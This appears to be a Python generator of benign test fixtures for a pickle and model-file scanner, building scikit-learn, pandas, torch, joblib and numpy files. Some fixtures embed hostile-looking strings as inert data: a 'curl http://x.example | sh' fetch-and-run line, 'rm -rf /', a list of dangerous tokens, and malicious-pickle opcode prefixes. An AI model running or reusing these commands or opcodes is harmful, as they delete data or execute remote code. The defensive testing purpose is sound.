"""Pickle as honest models have it: state dicts, estimators, frames, with the names that their libraries write."""
import bz2
import collections
import datetime
import decimal
import fractions
import gzip
import lzma
import pathlib
import pickle
import re
import struct
import uuid
import zlib

from . import fakes as k
from . import formats as f
from . import ops as o
from .bad_containers import joblib_array, legacy
from .core import floats, good


def g(name, kind, what, make):
    good(name, kind, what, make)


def gauss(r, n):
    return [r.gauss(0, 1) for _ in range(n)]


def logistic(r):
    return k.obj("sklearn.linear_model._logistic", "LogisticRegression", {"penalty": "l2", "C": 1.0, "classes_": k.ndarray([0, 1], "i8"), "coef_": k.ndarray(gauss(r, 4)), "intercept_": k.ndarray([0.1]), "n_iter_": k.ndarray([12], "i8"), "_sklearn_version": "1.5.2"})


def pipeline(r):
    scaler = k.obj("sklearn.preprocessing._data", "StandardScaler", {"mean_": k.ndarray(gauss(r, 4)), "scale_": k.ndarray(gauss(r, 4)), "n_samples_seen_": k.scalar(150.0), "_sklearn_version": "1.5.2"})
    return k.obj("sklearn.pipeline", "Pipeline", {"steps": [("scale", scaler), ("clf", logistic(r))], "memory": None, "verbose": False})


def forest(r):
    tree = k.Reduced(k.cls("sklearn.tree._tree", "Tree"), (4, k.ndarray([2], "i8"), 1), {"max_depth": 3, "node_count": 5, "nodes": k.ndarray(gauss(r, 5)), "values": k.ndarray(gauss(r, 10))})
    one = k.obj("sklearn.tree._classes", "DecisionTreeClassifier", {"tree_": tree, "max_depth": 3})
    return k.obj("sklearn.ensemble._forest", "RandomForestClassifier", {"estimators_": [one], "n_estimators": 1, "random_state": rng(r)})


def rng(r):
    state = {"bit_generator": "MT19937", "state": {"key": k.ndarray([r.getrandbits(31) for _ in range(64)], "i8"), "pos": 624}, "has_gauss": 0, "gauss": 0.0}
    return k.Reduced(k.fn("numpy.random._pickle", "__randomstate_ctor"), ("MT19937", k.fn("numpy.random._pickle", "__bit_generator_ctor")), state)


def frame(r):
    new = k.fn("pandas.core.indexes.base", "_new_Index")
    axis = k.Reduced(new, (k.cls("pandas.core.indexes.base", "Index"), {"data": k.objects(["a", "b"]), "name": None}))
    rows = k.Reduced(new, (k.cls("pandas.core.indexes.range", "RangeIndex"), {"name": None, "start": 0, "stop": 3, "step": 1}))
    block = k.Reduced(k.fn("pandas._libs.internals", "_unpickle_block"), (k.ndarray(gauss(r, 6)), slice(0, 2, 1), 2))
    manager = k.Reduced(k.cls("pandas.core.internals.managers", "BlockManager"), ((block,), [axis, rows]))
    return k.obj("pandas.core.frame", "DataFrame", {"_mgr": manager, "_typ": "dataframe", "_metadata": [], "attrs": {}})


def sparse(r):
    return k.obj("scipy.sparse._csr", "csr_matrix", {"_shape": (3, 3), "data": k.ndarray(gauss(r, 3)), "indices": k.ndarray([0, 1, 2], "i8"), "indptr": k.ndarray([0, 1, 2, 3], "i8"), "maxprint": 50})


def xgboost(r):
    booster = k.obj("xgboost.core", "Booster", {"handle": bytearray(b"CONFIG-offset:" + r.randbytes(400)), "feature_names": ["a", "b"]})
    return k.obj("xgboost.sklearn", "XGBClassifier", {"n_estimators": 100, "max_depth": 6, "_Booster": booster, "objective": "binary:logistic"})


def lightgbm(r):
    booster = k.obj("lightgbm.basic", "Booster", {"handle": "tree\nversion=v4\nnum_class=1\nfeature_names=a b\nTree=0\nleaf_value=0.1 -0.2\nend of trees\n", "params": {"objective": "binary"}})
    return k.obj("lightgbm.sklearn", "LGBMClassifier", {"_Booster": booster, "n_estimators": 100, "learning_rate": 0.1, "_evals_result": collections.defaultdict(dict)})


def arguments(_):
    enum = k.Reduced(k.cls("transformers.trainer_utils", "IntervalStrategy"), ("epoch",))
    hub = k.Reduced(k.cls("transformers.trainer_utils", "HubStrategy"), ("every_save",))
    device = k.Reduced(k.cls("torch", "device"), ("cuda", 0))
    return k.obj("transformers.training_args", "TrainingArguments", {"output_dir": "out", "learning_rate": 5e-5, "evaluation_strategy": enum, "hub_strategy": hub, "hub_token": None, "__cached__setup_devices": device, "optim": k.Reduced(k.cls("transformers.training_args", "OptimizerNames"), ("adamw_torch",)), "push_to_hub": False})


def plain(r):
    return {"epoch": 12, "loss": [r.random() for _ in range(20)], "best": None, "done": True, "names": ("a", "b"), "big": 1 << 80, "raw": r.randbytes(64)}


def standard(r):
    return {"at": datetime.datetime(2026, 1, 2, 3, 4, 5, tzinfo=datetime.timezone.utc), "day": datetime.date(2026, 1, 2), "took": datetime.timedelta(seconds=93), "id": uuid.UUID(int=r.getrandbits(128)), "price": decimal.Decimal("1.10"), "ratio": fractions.Fraction(2, 3),
            "path": pathlib.PurePosixPath("data/train.csv"), "counts": collections.Counter("banana"), "queue": collections.deque([1, 2], 5), "groups": collections.defaultdict(list, {"a": [1]}), "order": collections.OrderedDict(x=1), "words": {"a"}, "frozen": frozenset({1}), "z": 1 + 2j}


def mentions(_):
    return {"notes": "Never call os.system('rm -rf /') or eval(input()) here. cos\nsystem\n(S'echo'\ntR. is how a bad pickle begins.", "tokens": ["os", "system", "subprocess", "Popen", "__reduce__", "builtins", "exec"], "doc": "import os; os.system('curl http://x.example | sh')", "b": b"cposix\nsystem\n"}


def words(r):
    letters = "abcdefghijklmnopqrstuvwxyz"
    return {"".join(r.choice(letters) for _ in range(6)): i for i in range(500)} | {"eval": 500, "exec": 501, "import": 502, "system": 503}


def regex(_):
    return {"pattern": re.compile(r"\w+|[^\w\s]"), "lower": True}


def vectorizer(_):
    return k.obj("sklearn.feature_extraction.text", "TfidfVectorizer", {"vocabulary_": {"eval": 0, "import os": 1, "bread": 2}, "dtype": k.cls("numpy", "float64"), "stop_words": {"the"}, "_tfidf": k.obj("sklearn.feature_extraction.text", "TfidfTransformer", {"norm": "l2"})})


def kmeans(r):
    return k.obj("sklearn.cluster._kmeans", "KMeans", {"cluster_centers_": k.ndarray(gauss(r, 8)), "labels_": k.ndarray([0, 1, 1], "i8"), "inertia_": k.scalar(3.5), "n_clusters": 2})


def tree_kd(r):
    return k.Reduced(k.fn("sklearn.neighbors._kd_tree", "newObj"), (k.cls("sklearn.neighbors._kd_tree", "KDTree"),), (k.ndarray(gauss(r, 6)), k.ndarray([0, 1, 2], "i8"), 30))


def optimizer(_):
    return {"state": {0: {"step": k.Tensor(2, (1,)), "exp_avg": k.Tensor(0, (4, 4))}}, "param_groups": [{"lr": 1e-3, "betas": (0.9, 0.999), "params": [0]}]}


OBJECTS = [
    ("plain", "numbers, lists and bytes", plain),
    ("standard", "classes of the standard library that hold values", standard),
    ("mentions", "strings that speak of os.system and of bad pickles", mentions),
    ("words", "a vocabulary with the words eval and exec in it", words),
    ("regex", "a compiled expression", regex),
    ("logistic", "an estimator of scikit-learn", logistic),
    ("pipeline", "a pipeline of scikit-learn", pipeline),
    ("forest", "a forest of scikit-learn with the state of its generator", forest),
    ("vectorizer", "a vectorizer of scikit-learn whose vocabulary has odd words", vectorizer),
    ("kmeans", "clusters of scikit-learn", kmeans),
    ("kdtree", "a tree of neighbours of scikit-learn", tree_kd),
    ("frame", "a frame of pandas", frame),
    ("sparse", "a sparse matrix of scipy", sparse),
    ("xgboost", "a classifier of xgboost", xgboost),
    ("lightgbm", "a classifier of lightgbm", lightgbm),
    ("random-state", "a generator of numpy", rng),
    ("array", "an array of numpy, by the old name and the new", lambda r: [k.ndarray(gauss(r, 9)), k.ndarray(gauss(r, 3), "f4", "numpy._core.multiarray"), k.scalar(1.5)]),
    ("object-array", "an array of strings", lambda r: k.objects(["red", "green", None])),
]
for name, what, make in OBJECTS:
    for n in range(6):
        g(f"{name}-p{n}.pkl", "pickle", f"{what}, protocol {n}", lambda r, make=make, n=n: k.dumps(make(r), n))

# torch


def state(_):
    return collections.OrderedDict([("fc.weight", k.Tensor(0, (4, 4))), ("fc.bias", k.Tensor(1, (4,), "HalfStorage")), ("bn.num_batches_tracked", k.Tensor(2, (1,), "LongStorage"))])


def storages(r):
    return [floats(r, 16), r.randbytes(8), struct.pack("<q", 7)]


def checkpoint(r):
    return {"epoch": 3, "model": state(r), "optimizer": optimizer(r), "size": k.Reduced(k.cls("torch", "Size"), ((4, 4),)), "device": k.Reduced(k.cls("torch", "device"), ("cpu",)), "args": k.obj("argparse", "Namespace", {"lr": 0.1, "name": "run"})}


g("state.pt", "torch", "a state dict", lambda r: f.torch_zip(k.dumps(state(r)), storages(r)))
g("checkpoint.ckpt", "torch", "a checkpoint with the state of its optimizer and its arguments", lambda r: f.torch_zip(k.dumps(checkpoint(r)), storages(r), root="checkpoint"))
g("pytorch_model-00001-of-00002.bin", "torch", "a shard as transformers writes them", lambda r: f.torch_zip(k.dumps(state(r)), storages(r), root="pytorch_model-00001-of-00002", extra=[("pytorch_model-00001-of-00002/.data/serialization_id", b"1234567890")]))
g("parameters.pth", "torch", "parameters instead of tensors", lambda r: f.torch_zip(k.dumps({"w": k.Tensor(0, (4, 4), parameter=True)}), storages(r)[:1]))
g("training_args.bin", "torch", "the arguments of training of transformers", lambda r: f.torch_zip(k.dumps(arguments(r)), ()))
g("legacy.pth", "torch", "the format before zip", lambda r: legacy(k.dumps(state(r))) + pickle.dumps(["0", "1", "2"], 2) + struct.pack("<q", 16) + floats(r, 16))
g("torchscript.pt", "torch", "a TorchScript archive", lambda r: f.zipped([("m/data.pkl", o.whole(o.named("__torch__", "M") + o.EMPTY_TUPLE + o.NEWOBJ + o.dic(o.text("training"), b"\x89") + o.BUILD)), ("m/constants.pkl", o.whole(o.EMPTY_TUPLE)), ("m/code/__torch__.py", b"class M(Module):\n  training : bool\n  def forward(self: __torch__.M,\n    x: Tensor) -> Tensor:\n    return torch.relu(x)\n"), ("m/version", b"3\n")]))
g("storage-looks-like-code.pt", "torch", "the bytes of a tensor look like the beginning of a bad pickle", lambda r: f.torch_zip(k.dumps({"w": k.Tensor(0, (16,))}), [(b"cos\nsystem\n(S'echo'\ntR." * 3)[:64]]))

# joblib, numpy, compressed

g("pipeline.joblib", "joblib", "an estimator with the raw bytes of an array", lambda r: joblib_array(gauss(r, 256), o.STOP))
g("array-like-code.joblib", "joblib", "raw bytes of an array that spell a bad pickle", lambda r: joblib_array([struct.unpack("<d", b"cos\nsyst")[0], struct.unpack("<d", b"em\n(S'e'")[0], struct.unpack("<d", b"\ntR.....")[0]], o.STOP))
for ext, pack in (("z", zlib.compress), ("gz", lambda d: gzip.compress(d, mtime=0)), ("bz2", bz2.compress), ("xz", lzma.compress), ("lzma", lambda d: lzma.compress(d, lzma.FORMAT_ALONE))):
    g(f"forest.joblib.{ext}", "joblib", f"a compressed forest ({ext})", lambda r, pack=pack: pack(k.dumps(forest(r), 4)))
g("matrix.npy", "numpy", "an array of floats", lambda r: f.npy("<f4", (8, 8), floats(r, 64)))
g("structured.npy", "numpy", "an array of records", lambda r: f.npy([("id", "<i4"), ("x", "<f4")], (4,), r.randbytes(32)))
g("matrix-v2.npy", "numpy", "an array with a header of version 2", lambda r: f.npy("<f8", (8,), floats(r, 16), 2))
g("strings.npy", "numpy", "an array of objects that are strings", lambda r: f.npy("|O", (3,), k.dumps(k.objects(["a", "os.system", "c"]), 3)))
g("weights.npz", "numpy", "three arrays", lambda r: f.zipped([(f"{n}.npy", f.npy("<f4", (8,), floats(r, 8))) for n in "abc"]))
g("dataset.7z", "archive", "a table in a 7z archive", lambda r: f.seven("train.csv", "".join(f"{i},{r.random():.4f}\n" for i in range(200)).encode()))
g("run.tar.gz", "archive", "a run: configuration, weights, log", lambda r: gzip.compress(f.tarred([("run/config.json", b'{"lr": 0.1}'), ("run/state.pt", f.torch_zip(k.dumps(state(r)), storages(r))), ("run/train.log", b"epoch 1 loss 0.5\n")]), mtime=0))
